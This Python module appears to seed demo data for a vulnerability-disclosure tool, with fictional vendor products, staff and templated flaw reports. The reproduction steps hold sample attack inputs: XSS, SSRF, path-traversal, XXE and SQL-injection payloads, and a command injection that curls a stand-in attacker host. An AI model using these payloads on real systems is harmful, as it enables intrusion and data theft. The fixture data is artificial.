"""The fictional vendor the demo seeds: Larkmoor Systems, its teams, products, people and flaw types.

Everything here is invented. Names, addresses and CVE ids are fictional; email addresses use the
reserved `.test` top-level domain, so nothing can ever be delivered to them.
"""

from dataclasses import dataclass

from vulndesk.core.permissions import Role
from vulndesk.core.taxonomy import ImpactType

VENDOR = "Larkmoor Systems"
EMAIL_DOMAIN = "demo.vulndesk.test"
# One password for every demo login, printed by `vulndesk demo`; it passes the password validators.
DEMO_PASSWORD = "larkmoor-demo"  # noqa: S105  # published on purpose: demo logins only


@dataclass(frozen=True)
class TeamSpec:
    slug: str
    name: str


@dataclass(frozen=True)
class VersionSpec:
    version: str
    # End of support, in months from the demo's "today" (negative: already out of support), or None.
    end_of_support_months: int | None


@dataclass(frozen=True)
class ProductSpec:
    slug: str
    name: str
    family: str
    team: str
    kind: str  # "web", "server" or "native": which flaw types make sense for it
    components: tuple[str, ...]
    versions: tuple[VersionSpec, ...]


@dataclass(frozen=True)
class PersonSpec:
    key: str
    email: str
    display_name: str
    role: Role
    team: str = ""  # engineers belong to a team


@dataclass(frozen=True)
class FlawSpec:
    """A kind of vulnerability, written the way researchers report it.

    `title` and `alt_title` take `{component}`; the second wording is used when another
    researcher reports the same flaw. The summary and steps take `{component}`, `{product}`
    and `{version}`.
    """

    key: str
    kinds: frozenset[str]
    title: str
    alt_title: str
    summary: str
    steps: tuple[str, ...]
    impact: str
    remedy: str  # how the update fixes it, for the advisory
    impact_type: ImpactType
    cwe: str
    cvss_vector: str
    cvss4_vector: str = ""


@dataclass(frozen=True)
class NoteSpec:
    """A report that is not a product vulnerability (closed as such), with the analyst's reason."""

    title: str
    description: str
    reason: str
    product: str = ""  # a catalog slug, or empty with `product_other`
    product_other: str = ""


V = VersionSpec
TEAMS = (
    TeamSpec("server-platform", "Server Platform"),
    TeamSpec("web-collaboration", "Web & Collaboration"),
    TeamSpec("client-devices", "Client & Devices"),
)

PRODUCTS = (
    ProductSpec(
        "mail-server",
        "Larkmoor Mail Server",
        "Server",
        "server-platform",
        "server",
        ("IMAP command parser", "SMTP relay", "webmail attachment preview", "admin REST API"),
        (V("2021", -2), V("2023", 10), V("2025", 34)),
    ),
    ProductSpec(
        "directory-services",
        "Larkmoor Directory Services",
        "Identity",
        "server-platform",
        "server",
        ("LDAP query handler", "replication protocol", "password reset service", "schema import tool"),
        (V("8.4", -6), V("9.0", 14), V("9.2", 30)),
    ),
    ProductSpec(
        "identity-gateway",
        "Larkmoor Identity Gateway",
        "Identity",
        "server-platform",
        "web",
        ("OAuth authorization endpoint", "MFA enrolment page", "SAML assertion consumer", "SCIM provisioning API"),
        (V("3.1", 4), V("3.2", 16), V("4.0", 40)),
    ),
    ProductSpec(
        "file-sync-server",
        "Larkmoor File Sync Server",
        "Server",
        "server-platform",
        "server",
        ("WebDAV endpoint", "share-link resolver", "thumbnail generator", "sync delta protocol"),
        (V("5.5", 7), V("6.0", 31)),
    ),
    ProductSpec(
        "web-portal",
        "Larkmoor Web Portal",
        "Web",
        "web-collaboration",
        "web",
        ("dashboard widget editor", "search results page", "profile settings page", "file import wizard"),
        (V("2024.1", -1), V("2024.2", 5), V("2025.1", 17), V("2025.2", 29)),
    ),
    ProductSpec(
        "docs-online",
        "Larkmoor Docs Online",
        "Collaboration",
        "web-collaboration",
        "web",
        ("comment renderer", "document sharing dialog", "template gallery", "revision history view"),
        (V("7", 3), V("8", 27)),
    ),
    ProductSpec(
        "forms",
        "Larkmoor Forms",
        "Collaboration",
        "web-collaboration",
        "web",
        ("form builder", "webhook integration", "CSV export", "file upload field"),
        (V("2.8", -4), V("3.0", 9), V("3.1", 21)),
    ),
    ProductSpec(
        "chat",
        "Larkmoor Chat",
        "Collaboration",
        "web-collaboration",
        "web",
        ("message Markdown renderer", "link preview fetcher", "bot API", "channel invite flow"),
        (V("4", 6), V("5", 30)),
    ),
    ProductSpec(
        "navigator",
        "Larkmoor Navigator",
        "Browser",
        "client-devices",
        "native",
        ("JavaScript JIT compiler", "built-in PDF viewer", "extension sandbox", "download manager"),
        (V("128", -1), V("130", 2), V("132", 8)),
    ),
    ProductSpec(
        "desktop-agent",
        "Larkmoor Desktop Agent",
        "Endpoint",
        "client-devices",
        "native",
        ("update service", "named-pipe IPC server", "driver loader", "diagnostic log collector"),
        (V("7.2", 1), V("8.0", 25)),
    ),
    ProductSpec(
        "remote-desktop-client",
        "Larkmoor Remote Desktop Client",
        "Desktop",
        "client-devices",
        "native",
        ("clipboard redirection", "connection file parser", "smart card redirection", "display channel decoder"),
        (V("10.4", -3), V("11.0", 11), V("11.1", 23)),
    ),
    ProductSpec(
        "print-services",
        "Larkmoor Print Services",
        "Desktop",
        "client-devices",
        "native",
        ("print spooler", "driver package installer", "IPP listener", "job history database"),
        (V("2022", 12), V("2024", 36)),
    ),
)

_STAFF = (
    PersonSpec("analyst", f"analyst@{EMAIL_DOMAIN}", "Ana Lindqvist", Role.ANALYST),
    PersonSpec("engineer", f"engineer@{EMAIL_DOMAIN}", "Emeka Obi", Role.ENGINEER, team="server-platform"),
    PersonSpec("release_manager", f"release.manager@{EMAIL_DOMAIN}", "Rosa Delgado", Role.RELEASE_MANAGER),
    PersonSpec("coordinator", f"coordinator@{EMAIL_DOMAIN}", "Colm Byrne", Role.COORDINATOR),
    PersonSpec("admin", f"admin@{EMAIL_DOMAIN}", "Ada Whitlock", Role.ADMIN),
)
_RESEARCHERS = (
    PersonSpec("mira", f"mira.okonkwo@{EMAIL_DOMAIN}", "Mira Okonkwo", Role.RESEARCHER),
    PersonSpec("tomasz", f"tomasz@{EMAIL_DOMAIN}", "Tomasz Wójcik (Redwall Labs)", Role.RESEARCHER),
    PersonSpec("aiko", f"aiko.tanaka@{EMAIL_DOMAIN}", "Aiko Tanaka", Role.RESEARCHER),
    PersonSpec("diego", f"diego@{EMAIL_DOMAIN}", "Diego Ferreira (Blue Lantern Security)", Role.RESEARCHER),
    # Every programme has one: many submissions, few of them vulnerabilities.
    PersonSpec("quickbounty", f"quickbounty@{EMAIL_DOMAIN}", "QuickBounty Team", Role.RESEARCHER),
)
PEOPLE = _STAFF + _RESEARCHERS
STAFF_KEYS = tuple(person.key for person in _STAFF)
SKILLED_RESEARCHERS = ("mira", "tomasz", "aiko", "diego")

WEB, SERVER, NATIVE = "web", "server", "native"
NETWORK = frozenset({WEB, SERVER})

FLAWS = (
    FlawSpec(
        "stored-xss",
        frozenset({WEB}),
        "Stored XSS in the {component}",
        "Persistent cross-site scripting via the {component}",
        "Text saved through the {component} is rendered into other users' pages without escaping, "
        "so a low-privileged user can plant script that runs in the browser of everyone who views it.",
        (
            "Sign in as a regular user and open the {component}.",
            "Save the value <img src=x onerror=alert(document.domain)> in a free-text field.",
            "Sign in as an administrator and open the same page: the alert fires.",
        ),
        "An attacker can act as any user who views the content, including administrators.",
        "correctly encoding user-supplied text before it is rendered",
        ImpactType.SPOOFING,
        "CWE-79",
        "CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:L/I:L/A:N",
    ),
    FlawSpec(
        "reflected-xss",
        frozenset({WEB}),
        "Reflected cross-site scripting in the {component}",
        "XSS through a crafted link to the {component}",
        "A query parameter of the {component} is reflected into the page unescaped.",
        (
            "Open the {component} with q=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E while signed in.",
            "The script runs in the context of the {product} origin.",
        ),
        "A victim who follows a crafted link can have their session used by the attacker.",
        "encoding the reflected parameter and tightening the content security policy",
        ImpactType.SPOOFING,
        "CWE-79",
        "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N",
    ),
    FlawSpec(
        "ssrf",
        NETWORK,
        "Server-side request forgery through the {component}",
        "The {component} fetches internal URLs (SSRF)",
        "The {component} fetches a URL supplied by the user without restricting the destination, "
        "so the server can be made to request internal addresses, including the cloud metadata service.",
        (
            "Supply http://169.254.169.254/latest/meta-data/ as the URL to fetch.",
            "The response (or its timing) reveals the internal service's content.",
        ),
        "An authenticated attacker can read internal services and cloud credentials reachable from the server.",
        "validating destinations against an allow list and refusing link-local and private addresses",
        ImpactType.INFORMATION_DISCLOSURE,
        "CWE-918",
        "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:C/C:H/I:N/A:N",
    ),
    FlawSpec(
        "csrf",
        frozenset({WEB}),
        "Cross-site request forgery on the {component}",
        "Missing CSRF protection in the {component}",
        "State-changing requests to the {component} are accepted without an anti-forgery token "
        "and with SameSite=None cookies.",
        (
            "Host a page with an auto-submitting form that posts to the {component}.",
            "Lure a signed-in user of {product} {version} to the page: the change is applied to their account.",
        ),
        "An attacker can change a victim's settings, such as their recovery email, by getting them to visit a page.",
        "requiring an anti-forgery token on every state-changing request",
        ImpactType.TAMPERING,
        "CWE-352",
        "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:N/I:H/A:N",
    ),
    FlawSpec(
        "idor",
        NETWORK,
        "Insecure direct object reference in the {component}",
        "The {component} returns other tenants' records by id",
        "The {component} checks that the caller is signed in but not that the requested record belongs "
        "to their tenant.",
        (
            "Sign in to tenant A and request a record id that belongs to tenant B.",
            "The full record of tenant B is returned.",
        ),
        "Any authenticated user can read data of every other tenant.",
        "checking the tenant of every record the {component} returns",
        ImpactType.INFORMATION_DISCLOSURE,
        "CWE-639",
        "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N",
    ),
    FlawSpec(
        "auth-bypass",
        NETWORK,
        "Authentication bypass in the {component}",
        "Unauthenticated access to the {component} with a crafted token",
        "The {component} accepts a token whose signature algorithm is set to 'none', "
        "so anyone can forge a token for any account.",
        (
            "Take any token issued by {product} {version} and decode it.",
            "Change the subject to an administrator, set alg to none and drop the signature.",
            "Send the forged token: the request is served as the administrator.",
        ),
        "An unauthenticated attacker can act as any user, including administrators.",
        "rejecting unsigned tokens and pinning the expected signature algorithm",
        ImpactType.SECURITY_FEATURE_BYPASS,
        "CWE-287",
        "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N",
        "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N",
    ),
    FlawSpec(
        "open-redirect",
        frozenset({WEB}),
        "Open redirect in the {component}",
        "Unvalidated return URL in the {component}",
        "The return_to parameter of the {component} accepts absolute URLs to other sites.",
        ("Visit the {component} with return_to=https://attacker.example/ and sign in.",),
        "Attackers can make phishing links that start on the genuine {product} domain.",
        "accepting only relative return URLs",
        ImpactType.SPOOFING,
        "CWE-601",
        "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N",
    ),
    FlawSpec(
        "sql-injection",
        NETWORK,
        "SQL injection in the {component} sort parameter",
        "Blind SQL injection through the {component}",
        "The sort parameter of the {component} is concatenated into an ORDER BY clause.",
        (
            "Request the {component} with sort=(CASE WHEN (1=1) THEN name ELSE id END).",
            "Compare with (1=2): the order differs, confirming boolean-based blind injection.",
        ),
        "An authenticated attacker can read and modify any data in the product database.",
        "mapping sort keys to a fixed list of columns",
        ImpactType.ELEVATION_OF_PRIVILEGE,
        "CWE-89",
        "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H",
    ),
    FlawSpec(
        "deserialization",
        frozenset({SERVER}),
        "Unsafe deserialization in the {component} leads to remote code execution",
        "Remote code execution via a crafted serialized object sent to the {component}",
        "The {component} deserializes untrusted input with a polymorphic type resolver, "
        "so a crafted payload instantiates arbitrary classes on the server.",
        (
            "Generate a gadget-chain payload that runs `id` (PoC attached as a description only).",
            "Send it to the {component} of {product} {version} without authentication.",
            "The command runs as the service account.",
        ),
        "An unauthenticated remote attacker can run code on the server.",
        "restricting deserialization to an allow list of known types",
        ImpactType.REMOTE_CODE_EXECUTION,
        "CWE-502",
        "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
        "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N",
    ),
    FlawSpec(
        "path-traversal",
        NETWORK,
        "Path traversal in the {component} reads arbitrary files",
        "Directory traversal through file names in the {component}",
        "File names passed to the {component} are joined to the storage root without normalisation, "
        "so ../ sequences escape it.",
        (
            "Request a file named ..%2f..%2f..%2fetc%2fpasswd through the {component}.",
            "The server's /etc/passwd is returned.",
        ),
        "An authenticated attacker can read any file the service account can read, including its secrets.",
        "resolving paths and refusing any that leave the storage root",
        ImpactType.INFORMATION_DISCLOSURE,
        "CWE-22",
        "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N",
    ),
    FlawSpec(
        "xxe",
        frozenset({SERVER}),
        "XML external entity injection in the {component}",
        "XXE in XML handling of the {component}",
        "The {component} parses uploaded XML with external entities and DTD loading enabled.",
        ("Upload an XML document declaring <!ENTITY x SYSTEM 'file:///etc/hostname'> and referencing &x;.",),
        "An unauthenticated attacker can read local files and reach internal hosts.",
        "disabling DTDs and external entities in the XML parser",
        ImpactType.INFORMATION_DISCLOSURE,
        "CWE-611",
        "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N",
    ),
    FlawSpec(
        "resource-exhaustion",
        NETWORK,
        "Unbounded memory allocation in the {component} crashes the service",
        "Denial of service through oversized input to the {component}",
        "The {component} trusts a length field from the client and allocates that much memory up front.",
        (
            "Send a request to the {component} declaring a length of 4 GiB with a tiny body.",
            "The process is killed by the out-of-memory killer; repeat to keep it down.",
        ),
        "An unauthenticated attacker can make the service unavailable.",
        "capping the declared length and allocating as data arrives",
        ImpactType.DENIAL_OF_SERVICE,
        "CWE-789",
        "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H",
    ),
    FlawSpec(
        "command-injection",
        frozenset({SERVER}),
        "OS command injection in the {component}",
        "Shell metacharacters in the {component} run commands",
        "An option of the {component} is passed to a shell command line without quoting.",
        (
            "As an administrator, set the option to `x; curl attacker.example/$(hostname)`.",
            "The command runs on the server with the service's privileges.",
        ),
        "An administrator of the application can run commands on the host, crossing the boundary to the OS.",
        "passing arguments without a shell",
        ImpactType.REMOTE_CODE_EXECUTION,
        "CWE-78",
        "CVSS:3.1/AV:N/AC:L/PR:H/UI:N/S:U/C:H/I:H/A:H",
    ),
    FlawSpec(
        "use-after-free",
        frozenset({NATIVE}),
        "Use-after-free in the {component} leads to code execution",
        "Heap use-after-free in the {component} (ASan report attached)",
        "An object owned by the {component} is freed while a callback still holds a raw pointer to it.",
        (
            "Build the attached test case and open it with {product} {version}.",
            "AddressSanitizer reports heap-use-after-free; a release build crashes with a controlled address.",
        ),
        "An attacker who convinces a user to open crafted content can run code as that user.",
        "keeping the object alive for the callback's lifetime",
        ImpactType.REMOTE_CODE_EXECUTION,
        "CWE-416",
        "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:H",
        "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:P/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N",
    ),
    FlawSpec(
        "heap-overflow",
        frozenset({NATIVE}),
        "Heap buffer overflow in the {component} when parsing crafted input",
        "Out-of-bounds write in the {component}",
        "A size read from the input is used for a copy into a fixed-size heap buffer without a bounds check.",
        (
            "Open the attached file with {product} {version}.",
            "The process crashes writing past the end of a 256-byte buffer; the overflowing bytes are attacker-chosen.",
        ),
        "Crafted input can corrupt memory and likely run code as the user.",
        "validating sizes before copying",
        ImpactType.REMOTE_CODE_EXECUTION,
        "CWE-122",
        "CVSS:3.1/AV:L/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:H",
    ),
    FlawSpec(
        "symlink-eop",
        frozenset({NATIVE}),
        "Local privilege escalation through symbolic links in the {component}",
        "The {component} follows junctions planted by a standard user",
        "The {component} runs as SYSTEM and writes to a folder that standard users can modify, "
        "following symbolic links they plant there.",
        (
            "As a standard user, replace the {component}'s temp folder with a junction to C:\\Windows\\System32.",
            "Trigger the {component}; it writes an attacker-controlled DLL into System32.",
        ),
        "A local standard user can gain SYSTEM privileges.",
        "opening files with reparse points refused and writing only to a protected folder",
        ImpactType.ELEVATION_OF_PRIVILEGE,
        "CWE-59",
        "CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H",
    ),
    FlawSpec(
        "dll-search-path",
        frozenset({NATIVE}),
        "Insecure library search path in the {component}",
        "DLL planting against the {component}",
        "The {component} loads a helper library by bare name, searching the current directory first.",
        ("Place a DLL named like the helper in a folder the victim opens a file from, then open the file.",),
        "An attacker who can place a file next to a document can run code when the user opens it.",
        "loading libraries only from the installation folder",
        ImpactType.ELEVATION_OF_PRIVILEGE,
        "CWE-427",
        "CVSS:3.1/AV:L/AC:H/PR:L/UI:N/S:U/C:H/I:H/A:H",
    ),
    FlawSpec(
        "uninitialized-memory",
        frozenset({NATIVE}),
        "Uninitialized memory disclosure in the {component}",
        "The {component} leaks heap contents",
        "A structure copied out by the {component} contains padding bytes that are never initialised.",
        ("Call the {component} repeatedly and collect the returned structures; they contain stale heap data.",),
        "A local attacker can read fragments of other processes' memory, defeating ASLR.",
        "zero-initialising the structure",
        ImpactType.INFORMATION_DISCLOSURE,
        "CWE-908",
        "CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N",
    ),
    FlawSpec(
        "sandbox-escape",
        frozenset({NATIVE}),
        "Sandbox escape through the {component}",
        "Security boundary bypass in the {component}",
        "A message from the sandboxed process to the {component} is trusted to name a file path, "
        "which the broker then opens with full privileges.",
        ("From a compromised renderer, send the broker message with a path outside the profile folder.",),
        "Combined with a renderer bug, an attacker escapes the sandbox.",
        "validating broker messages against the sandbox's own capabilities",
        ImpactType.SECURITY_FEATURE_BYPASS,
        "CWE-693",
        "CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:C/C:H/I:H/A:H",
    ),
)

# Reports that turn out not to be vulnerabilities; each with the reason the analyst recorded.
NOT_VULNERABILITIES = (
    NoteSpec(
        "Self-XSS in the browser developer console",
        "If I paste javascript into the developer console on the portal it runs! This is XSS.",
        "Running script in your own console is not a vulnerability: it crosses no security boundary.",
        product="web-portal",
    ),
    NoteSpec(
        "Server version disclosed in HTTP response header",
        "The mail server returns its product version in a response header, which helps attackers.",
        "Version banners are not a vulnerability on their own; no exploitable issue was shown.",
        product="mail-server",
    ),
    NoteSpec(
        "Clickjacking on the public help page",
        "The help page can be framed. PoC: <iframe src=...>.",
        "The page has no state-changing actions, so framing it gains an attacker nothing.",
        product="docs-online",
    ),
)
OUT_OF_SCOPE = (
    NoteSpec(
        "XSS on the community forum",
        "The Larkmoor community forum is vulnerable to XSS in signatures.",
        "The forum is run by a third-party provider; we passed the report on to them.",
        product_other="Larkmoor Community Forum (hosted by a third party)",
    ),
    NoteSpec(
        "Physical access to a kiosk lets me open a terminal",
        "At a trade show kiosk I pressed Ctrl+Alt+T and got a shell.",
        "Attacks that need physical access to an unlocked device are outside the programme's scope.",
        product_other="Trade-show kiosk",
    ),
    NoteSpec(
        "Subdomain takeover of an old marketing site",
        "An old campaign subdomain points at an unclaimed cloud bucket.",
        "Marketing web sites are not in scope; forwarded to the web team, who removed the record.",
        product_other="Marketing website",
    ),
)
SPAM = (
    NoteSpec(
        "URGENT: critical vulnerabilities found, payment required first",
        "We have found 37 critical vulnerabilities. Send 2 BTC to receive the details.",
        "Extortion attempt with no technical content.",
        product_other="All products",
    ),
    NoteSpec(
        "Bug bounty??",
        "hello sir do you give bounty for bugs reply fast",
        "No report content.",
        product_other="Website",
    ),
)
DISPUTED = (
    NoteSpec(
        "Directory listing reveals backup file names",
        "The desktop agent's update mirror lists directory contents, including names of backup archives.",
        "The mirror is public by design and the archives are signed release packages; the researcher disagrees.",
        product="desktop-agent",
    ),
)
WONT_FIX = (
    NoteSpec(
        "Password field allows browser autocomplete",
        "The MFA enrolment page does not set autocomplete=off on the password field.",
        "Defense-in-depth only; browsers ignore autocomplete=off for passwords. Tracked for a future version.",
        product="identity-gateway",
    ),
    NoteSpec(
        "IPP listener accepts TLS 1.0",
        "The print listener still negotiates TLS 1.0 with legacy clients.",
        "Needed for supported legacy printers; it can be disabled by policy. Hardening planned for the next major version.",
        product="print-services",
    ),
)
